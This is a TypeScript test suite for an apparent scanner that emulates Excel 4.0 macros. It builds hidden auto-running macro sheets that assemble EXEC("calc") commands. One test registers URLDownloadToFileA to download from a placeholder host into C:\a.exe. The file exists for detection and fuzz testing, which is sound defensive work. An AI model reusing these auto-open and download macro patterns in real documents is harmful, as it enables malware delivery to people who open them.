import { fc, test } from '@fast-check/vitest'
import { describe, expect, it } from 'vitest'
import { Budget, LIMITS, LimitReached } from '#scanner/intake/limits.ts'
import { scanBytes } from '#scanner/reports/scan-report.ts'
import { biffRecord, buildWorkbookStream, buildXls, buildXlsb, buildXlsm, token } from '#test/harness/documents/excel.ts'
import { readBiffWorkbook } from './biff-workbook.ts'
import { sharedStrings } from './biff.ts'
import { parseFormula } from './formula-parser.ts'
import { formulaText, type Formula } from './formula.ts'
import { runXlm } from './xlm.ts'
import { XlmWorkbook } from './xlm-workbook.ts'
import { readXlsbBook, readXlsbSheet } from './xlsb.ts'

const CHAR = token.fixed(111)
const EXEC = token.call(110, 1)
const HALT = token.call(54, 0)
const autoOpen = { builtIn: 1, tokens: [token.cellOf(0, 0, 0)] }

/** What running formulas of one column shows, from the first cell on. */
function run(formulas: readonly string[], more: Readonly<Record<string, string | number>> = {}) {
  const workbook = new XlmWorkbook()
  workbook.sheets.push({ name: 'M', macro: true, state: 'visible', offset: 0 })
  workbook.names.push({ name: 'Auto_Open', hidden: false, formula: parse('M!A1'), offset: 0 })
  formulas.forEach((text, row) => (workbook.at('M', row, 0)!.formula = parse(text)))
  for (const [place, value] of Object.entries(more)) {
    const at = parse(place)
    if (at.kind === 'reference') workbook.at(at.sheet ?? 'M', at.row, at.column)!.value = value
  }
  const { calls, cut } = runXlm(workbook, new Budget())
  return { calls: calls.map(({ name, args, reached, cell }) => `${reached ? '' : 'not reached '}${cell} ${name} ${args.join('|')}`), cut }
}
const parse = (text: string) => parseFormula(text, new Budget())

describe('a workbook of Excel 4.0 macros', () => {
  it('shows its very hidden sheet, the name that starts it, and the command it puts together', () => {
    const macro = [[token.text('cal'), token.whole(99), CHAR, token.join, EXEC], [HALT]]
    const { verdict } = scanBytes(buildXls([{ name: 'Macro1', macro: true, state: 2, formulas: macro }], [{ ...autoOpen, hidden: true }]))
    expect(verdict.techniques).toMatchObject([{ id: 'excel4-macro', severity: 'high', why: expect.stringContaining('starts programs') }])
    expect(verdict.seen.map(({ field, value }) => `${field}: ${value}`)).toEqual([
      'macro sheet: Macro1 (very hidden)',
      'names that run: Auto_Open (hidden)',
      'Macro1!A1: EXEC(calc)',
    ])
  })

  it('in XML shows the same', () => {
    const { verdict } = scanBytes(buildXlsm(['FORMULA("=EXEC(""cal""&CHAR(99))",A3)', 'GOTO(A3)', '', 'HALT()']))
    expect(verdict.seen.map(({ field, value }) => `${field}: ${value}`)).toEqual([
      'macro sheet: Macro1 (very hidden)',
      'names that run: _xlnm.Auto_Open (hidden)',
      'Macro1!A3: EXEC(calc)',
      'formula that the macro writes: =EXEC("cal"&CHAR(99))',
    ])
  })

  it('in binary parts shows the same', () => {
    const text = Buffer.concat([Buffer.from([0x17, 4, 0]), Buffer.from('calc', 'utf16le')])
    const { verdict } = scanBytes(buildXlsb(Buffer.concat([text, EXEC])))
    expect(verdict.seen.map(({ field, value }) => `${field}: ${value}`)).toEqual([
      'macro sheet: Macro1 (hidden)',
      'names that run: _xlnm.Auto_Open',
      'Macro1!A1: EXEC(calc)',
    ])
  })

  it('without a name that runs is a note, unless it reaches beyond the workbook', () => {
    const only = (...tokens: Buffer[]) => scanBytes(buildXls([{ name: 'Macro1', macro: true, formulas: [tokens] }])).verdict
    expect([only(HALT).notes.map(({ id }) => id), only(HALT).techniques]).toEqual([['excel4-macro'], []])
    expect(only(token.text('calc'), EXEC).techniques).toMatchObject([{ id: 'excel4-macro', severity: 'medium' }])
  })
})

describe('a run of macros', () => {
  it('follows jumps, decisions and what was written into cells', () => {
    expect(run(['FORMULA("calc",B1)', 'IF(1>2,EXEC("no"),GOTO(A5))', 'EXEC("jumped over")', '', 'EXEC(B1&".exe")', 'HALT()', 'EXEC("after")']).calls).toEqual([
      'M!A5 EXEC calc.exe',
      'not reached M!A3 EXEC jumped over',
      'not reached M!A7 EXEC after',
    ])
  })

  it('does not believe an end that hangs on what only Excel knows', () => {
    expect(run(['IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)', 'EXEC("calc")']).calls).toEqual(['M!A2 EXEC calc'])
  })

  it('runs loops, names and macros that are called', () => {
    const loop = ['SET.NAME("n",1)', 'WHILE(n<4)', 'SET.VALUE(B1,B1&CHAR(64+n))', 'SET.NAME("n",n+1)', 'NEXT()', 'RUN(A9)', 'EXEC(B1)', 'HALT()']
    expect(run([...loop, 'SET.VALUE(B1,B1&"!")', 'RETURN()']).calls).toEqual(['M!A7 EXEC ABC!'])
    expect(run(['FOR("i",1,3)', 'SET.VALUE(B1,B1&MID("abc",i,1))', 'NEXT()', 'EXEC(B1)']).calls).toEqual(['M!A4 EXEC abc'])
  })

  it('calls what it registered by the name it gave', () => {
    const register = 'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Get",,1,9)'
    expect(run([register, 'Get(0,"http://host.example/a","C:\\a.exe",0,0)']).calls).toEqual([
      'M!A1 REGISTER urlmon|URLDownloadToFileA|JJCCJJ|Get||1|9',
      'M!A2 GET 0|http://host.example/a|C:\\a.exe|0|0',
    ])
  })

  it('shows what it cannot know as it is written', () => {
    expect(run(['EXEC("a"&GET.WORKSPACE(1))']).calls).toEqual(['M!A1 EXEC "a"&GET.WORKSPACE(1)'])
  })

  it('reads cells of other sheets and texts that name cells', () => {
    expect(run(['EXEC(S!C2&INDIRECT("S!C3"))'], { 'S!C2': 'ca', 'S!C3': 'lc' }).calls).toEqual(['M!A1 EXEC calc'])
  })

  it('that never ends is cut, and one that grows too', () => {
    expect(run(['SET.NAME("n",1)', 'WHILE(n<2)', 'NEXT()']).cut).toBe(true)
    expect(run(['WHILE(TRUE)', 'SET.VALUE(B1,B1&REPT("x",30000))', 'NEXT()']).cut).toBe(true)
    expect(run(['RUN(A1)']).cut).toBe(false)
    expect(run(['GOTO(A2)', 'GOTO(A1)']).calls).toEqual([])
  })
})

describe('a formula', () => {
  it.each(['"a""b"&1+2*3', "'Sheet 1'!A1:B2", '-(1-2)%', 'IF(A1>=2,"x",)', 'CALL("a",,TRUE)', 'NAME.ONE+1', '1E+5<>2'])(
    '%s is read and written alike',
    (text) => {
      expect(formulaText(parse(text)).replace('100000', '1E+5')).toBe(text)
    },
  )

  it('that is no formula is left unread, however deep it is', () => {
    for (const text of ['(', '1+', 'A(', '"x', '"'.repeat(999), '('.repeat(30_000), '-'.repeat(30_000), 'A('.repeat(15_000), "'"])
      expect(parse(text).kind).toBe('unread')
  })

  it('from a macro names cells by row and column', () => {
    const from = { row: 4, column: 2 }
    expect(formulaText(parseFormula('R[-1]C&R1C1&RC[1]', new Budget(), { from }))).toBe('C4&A1&D5')
  })

  it('is cut where it is too long or too deep to show', () => {
    let deep: Formula = { kind: 'constant', value: 1 }
    for (let i = 0; i < 5000; i++) deep = { kind: 'operator', operator: '-', args: [deep] }
    expect(formulaText(deep)).toMatch(/^-{65}…$/)
    expect(formulaText({ kind: 'constant', value: 'x'.repeat(5000) }).length).toBeLessThan(2100)
  })
})

it('shared texts go on in the next record', () => {
  const word = (value: number) => Buffer.from([value & 0xff, value >> 8])
  const first = Buffer.concat([Buffer.alloc(8), word(2), Buffer.from([0]), Buffer.from('ab'), word(4), Buffer.from([0]), Buffer.from('cd')])
  const second = Buffer.concat([Buffer.from([1]), Buffer.from('ef', 'utf16le'), word(1), Buffer.from([8]), word(1), Buffer.from('g'), Buffer.alloc(4)])
  expect(sharedStrings([first, second], new Budget())).toEqual(['ab', 'cdef', 'g'])
})

it('cells that share a formula tell their references from where they stand', () => {
  const word = (value: number) => Buffer.from([value & 0xff, (value >> 8) & 0xff])
  const elsewhere = Buffer.concat([Buffer.from([0x01]), word(0), word(0)])
  const above = Buffer.concat([Buffer.from([0x4c]), word(0xffff), word(0xc001)])
  const shared = biffRecord(0x04bc, Buffer.concat([word(0), word(2), Buffer.from([0, 0, 0, 2]), word(above.length), above]))
  const cell = (row: number) => biffRecord(0x0006, Buffer.concat([word(row), word(0), Buffer.alloc(16), word(elsewhere.length), elsewhere]))
  const workbook = readBiffWorkbook(buildWorkbookStream([{ name: 'M', macro: true, records: [cell(1), shared, cell(2)] }]), new Budget())
  expect(workbook.formulas('M').map(({ formula }) => formulaText(formula))).toEqual(['B1', 'B2'])
})

describe('a hostile workbook', () => {
  const stream = buildWorkbookStream(
    [
      {
        name: 'Macro1',
        macro: true,
        formulas: [
          [token.text('calc'), EXEC],
          [token.cell(0, 1), token.whole(1), token.less, HALT],
        ],
        texts: ['a', 'b'],
      },
    ],
    [autoOpen, { name: 'x', tokens: [token.text('y')] }],
  )
  const limits = { ...LIMITS, steps: 400_000 }
  const quiet = (work: () => void) => {
    try {
      work()
    } catch (error) {
      expect(error).toBeInstanceOf(LimitReached)
    }
  }
  const read = (bytes: Buffer) => quiet(() => void runXlm(readBiffWorkbook(bytes, new Budget(limits)), new Budget(limits)))

  it('is read as far as it goes at every length', () => {
    for (let length = 0; length <= stream.length; length++) read(stream.subarray(0, length))
  })

  test.prop([fc.array(fc.tuple(fc.nat({ max: stream.length - 1 }), fc.nat({ max: 255 })), { minLength: 1, maxLength: 8 })], { numRuns: 300 })(
    'with changed bytes yields something or nothing',
    (changes) => {
      const copy = Buffer.from(stream)
      for (const [at, value] of changes) copy[at] = value
      read(copy)
    },
  )

  test.prop([fc.uint8Array({ maxLength: 400 })], { numRuns: 300 })('of any binary records yields something or nothing', (bytes) =>
    quiet(() => {
      const { context } = readXlsbBook(Buffer.from(bytes), new Budget(limits))
      readXlsbSheet(Buffer.from(bytes), { workbook: new XlmWorkbook(), sheet: 'S', strings: [], context }, new Budget(limits))
    }),
  )

  const words = [
    'WHILE(',
    'NEXT()',
    'RUN(A1)',
    'GOTO(A2)',
    'IF(',
    '1',
    ',',
    ')',
    '&',
    '"a"',
    'A1',
    'REPT("x",999)',
    'FORMULA(',
    'SET.NAME("n",',
    'n',
    'FOR("n",1,9)',
    'EXEC(',
  ]
  test.prop([fc.array(fc.array(fc.constantFrom(...words), { maxLength: 9 }), { maxLength: 9 })], { numRuns: 200 })('of any formulas ends', (rows) => {
    run(rows.map((row) => row.join('')))
  })
})
